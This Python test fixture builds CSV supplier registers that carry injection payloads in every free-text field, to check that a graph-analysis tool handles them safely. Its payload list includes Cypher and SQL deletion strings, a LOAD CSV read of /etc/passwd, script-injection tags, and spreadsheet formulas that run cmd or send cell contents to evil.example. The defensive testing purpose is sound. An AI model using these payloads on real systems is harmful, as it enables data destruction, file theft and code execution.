"""Injection payloads, and a register that carries one in every free-text field of every file.

``PAYLOADS`` are hand-written (this project's own, after the usual families: Cypher injection,
SQL/HTML/script fragments, OWASP's CSV-injection prefixes, Unicode that confuses renderers). Each
is its own trimmed text (the register format trims cells, see docs/register-format.md), holds no
NUL (a register with NUL bytes is refused as binary), and is distinct from every other one.

:func:`write_register` writes a real CSV register (the csv module's quoting) whose identifiers,
names, prime contractors, dependency ends, list items and extra columns (headers too) are payloads;
:func:`write_register` with ``benign=True`` writes the same register with plain identifiers that
sort in the same order, so the analyses of the two must agree once the identifiers are mapped back.
"""

from __future__ import annotations

import csv
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from sourcing_graph.model import MAX_ID_LENGTH, OWN_IT

LONG_ID = "\U0001f4a3" * MAX_ID_LENGTH
"""The longest identifier a register may hold, in 4-byte characters (the worst case in Neo4j)."""

PAYLOADS: tuple[str, ...] = (
    # quotes, doubled quotes, backticks, braces, parameters, backslashes
    "O'Brien's lot",
    "it''s",
    'say "hi"',
    'a""b',
    "`n`.`id`",
    "``",
    "{id: 'x'}",
    "${x}",
    "$param",
    "$rows",
    "$ids",
    "C:\\temp\\new",
    "\\u0027) RETURN 1 //",
    "\\",
    # line breaks, tabs, control characters (never NUL)
    "line1\nline2",
    "line1\r\nline2",
    "cr\ronly",
    "a\tb",
    "bell\x07esc\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "vt\x0bff\x0cfs\x1cus\x1fdel\x7fnel\x85end",
    # Cypher
    "'}) DETACH DELETE n //",
    '"}) MATCH (n) DETACH DELETE n WITH 1 AS x MATCH (y {id:"',
    "MATCH (n) DETACH DELETE n",
    "match (n) detach delete n",
    "*/ MATCH (n) DELETE n /*",
    "// comment",
    "CALL db.labels()",
    "CALL { CREATE (:Pwned) }",
    ":param x => 1",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "RETURN",
    "null",
    "NULL",
    "true",
    "1e3",
    # SQL, HTML, script, Markdown
    "'; DROP TABLE contracts; --",
    "1 OR 1=1",
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "</script><script>window.__pwned=1</script>",
    "[click](javascript:window.__pwned=1)",
    '<a href="javascript:window.__pwned=1">x</a>',
    "| pipe | table |",
    "**bold** _it_ # head",
    "<!-- comment -->",
    "&amp; &lt;b&gt;",
    "%s %d {0} %00",
    # spreadsheet formulas (OWASP CSV injection)
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "-3",
    # IRIs and Turtle
    "a/b#c?d",
    "a%2Fb%23c",
    '"""triple"""',
    "<http://example.org/x>",
    "_:b0",
    "@prefix x: <y> .",
    # Unicode
    "\u202eevil\u202c gnp.exe",
    "שלום عربى",
    "e\u0301\u0301\u0301 zalgo",
    "\u00e9",
    "e\u0301",
    "\U0001f4a3\U0001f525\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\uff01fullwidth",
    "\ue000private",
    "a\u2028b\u2029c",
    "a\u200bb\ufeffc",
    "a\u00a0b",
    "Lot-A",
    "lot-a",
    "x" * (MAX_ID_LENGTH - 1),
    LONG_ID,
)

BAD_IN_LISTS = ("|", ";")
"""List cells split on these, so an identifier that is a list item cannot hold them."""

EXTRA_HEADERS = {
    "suppliers": ("note `n` {x} $y", '=HYPERLINK("http://evil.example")'),
    "functions": ("<b>remark</b>", "uri"),
    "lots": ("'}) DETACH DELETE n //", "id"),
    "contracts": ("multi\nline \U0001f4a3", "startDate", "@owner", "annualValue"),
}
"""Extra columns per file; some share a name with a property the graph gives the node itself."""

LONG_TEXT = "<script>window.__pwned=1</script>" * 3000
"""A very long name (about 100 000 characters)."""


def list_safe(text: str) -> bool:
    return not any(mark in text for mark in BAD_IN_LISTS)


def benign_ids() -> list[str]:
    """Plain identifiers, one per payload, that sort (by code point) as the payloads do."""
    order = sorted(range(len(PAYLOADS)), key=lambda i: PAYLOADS[i])
    ids = [""] * len(PAYLOADS)
    for rank, i in enumerate(order):
        ids[i] = f"id-{rank:03d}"
    return ids


@dataclass
class Written:
    """What was written: the rows of each file as dicts (header -> cell) and the identifiers."""

    folder: Path
    ids: list[str]
    rows: dict[str, list[dict[str, str]]] = field(default_factory=dict)

    def placements(self) -> tuple[int, int]:
        """(cells, columns): the payloads written (list items one by one, extra headers included)
        and the (file, column) positions that hold them."""
        pool = set(PAYLOADS) | {LONG_TEXT}
        cells = sum(len(headers) for headers in EXTRA_HEADERS.values())
        columns: set[tuple[str, str]] = set()
        for kind, rows in self.rows.items():
            for row in rows:
                for column, value in row.items():
                    items = [value] if value in pool else [v.strip() for v in value.split("|")]
                    hits = sum(1 for item in items if item in pool)
                    if hits:
                        cells += hits
                        columns.add((kind, column))
        return cells, len(columns)


MODES = ("distrust", "reliability", "trust", "")
CLAUSES = ("penalty", "bonus|sla", "open_book", "", "penalty|innovation", "exit")


def _spec(n: int) -> dict[str, list[dict[str, Any]]]:
    """The register's shape over payload indices: which identifier goes where."""
    ok = [i for i in range(n) if list_safe(PAYLOADS[i])]
    spec: dict[str, list[dict[str, Any]]] = {k: [] for k in EXTRA_HEADERS}
    spec["dependencies"] = []
    for i in range(n):
        spec["suppliers"].append({"id": i, "name": (i + 1) % n, "internal": i % 9 == 0})
        spec["functions"].append(
            {"id": i, "name": (i + 2) % n, "critical": i % 2 == 0, "retained": i % 3 == 0}
        )
        spec["lots"].append(
            {
                "id": i,
                "name": (i + 3) % n,
                "prime": None if i % 4 == 0 else (i * 5 + 1) % n,
                "complexity": "high" if i % 3 == 0 else "low",
                "dynamics": "high" if i % 5 == 0 else "low",
                "commodity": i % 2 == 1,
            }
        )
        targets = [ok[(i * 3 + k) % len(ok)] for k in (1, 2)]
        targets = [t for t in dict.fromkeys(targets) if t != i]
        if targets:
            spec["dependencies"].append({"lot": i, "depends_on": targets})
        spec["contracts"].append(
            {
                "id": i,
                "supplier": (i * 7 + 2) % n,
                "lot": (i * 3 + 1) % n,
                "mode": MODES[i % len(MODES)],
                "clauses": CLAUSES[i % len(CLAUSES)],
                "functions": [ok[(i + k) % len(ok)] for k in (0, 5)],
                "annual_value": i * 250 + 0.5,
            }
        )
    return spec


def write_register(folder: Path, *, benign: bool = False) -> Written:
    """Write the hostile register (or its benign twin) as CSV files into ``folder``."""
    n = len(PAYLOADS)
    ids = benign_ids() if benign else list(PAYLOADS)
    texts = list(PAYLOADS)  # names and extra values stay hostile in the twin too
    spec = _spec(n)
    folder.mkdir(parents=True, exist_ok=True)
    written = Written(folder, ids)

    def extras(kind: str, i: int) -> dict[str, str]:
        return {h: texts[(i + 7 * k + 13) % n] for k, h in enumerate(EXTRA_HEADERS[kind])}

    def yes(flag: bool) -> str:
        return "ja" if flag else "nee"

    rows: dict[str, list[dict[str, str]]] = {}
    rows["suppliers"] = [
        {
            "supplier_id": ids[s["id"]],
            "name": LONG_TEXT if s["id"] == 7 else texts[s["name"]],
            "internal": yes(s["internal"]),
            **extras("suppliers", s["id"]),
        }
        for s in spec["suppliers"]
    ]
    rows["functions"] = [
        {
            "function_id": ids[f["id"]],
            "name": texts[f["name"]],
            "critical": yes(f["critical"]),
            "retained": yes(f["retained"]),
            **extras("functions", f["id"]),
        }
        for f in spec["functions"]
    ]
    rows["lots"] = [
        {
            "lot_id": ids[lot["id"]],
            "name": texts[lot["name"]],
            "prime_contractor": OWN_IT if lot["prime"] is None else ids[lot["prime"]],
            "complexity": lot["complexity"],
            "dynamics": lot["dynamics"],
            "commodity": yes(lot["commodity"]),
            **extras("lots", lot["id"]),
        }
        for lot in spec["lots"]
    ]
    rows["dependencies"] = [
        {"lot": ids[d["lot"]], "depends_on": " | ".join(ids[t] for t in d["depends_on"])}
        for d in spec["dependencies"]
    ]
    lot_names = {lot["id"]: texts[lot["name"]] for lot in spec["lots"]}
    rows["contracts"] = [
        {
            "contract_id": ids[c["id"]],
            "supplier": ids[c["supplier"]],
            "lot": ids[c["lot"]],
            "lot_name": lot_names[c["lot"]],  # the wide form agrees with lots.csv
            "mode": c["mode"],
            "clauses": c["clauses"],
            "functions": "|".join(ids[f] for f in c["functions"]),
            "start_date": "2025-01-31",
            "annual_value": f"{c['annual_value']:.2f}",
            **extras("contracts", c["id"]),
        }
        for c in spec["contracts"]
    ]
    for kind, kind_rows in rows.items():
        # two quoting styles, both what spreadsheets write
        quoting = csv.QUOTE_ALL if kind in ("lots", "contracts") else csv.QUOTE_MINIMAL
        with open(folder / f"{kind}.csv", "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(kind_rows[0]), quoting=quoting)
            writer.writeheader()
            writer.writerows(kind_rows)
    written.rows = rows
    return written


def expected_ids(written: Written) -> dict[str, set[str]]:
    """The identifiers of each kind of node the register defines (``own-it`` included)."""
    rows = written.rows
    return {
        "Organisation": {r["supplier_id"] for r in rows["suppliers"]} | {OWN_IT},
        "Function": {r["function_id"] for r in rows["functions"]},
        "Lot": {r["lot_id"] for r in rows["lots"]},
        "Contract": {r["contract_id"] for r in rows["contracts"]},
    }
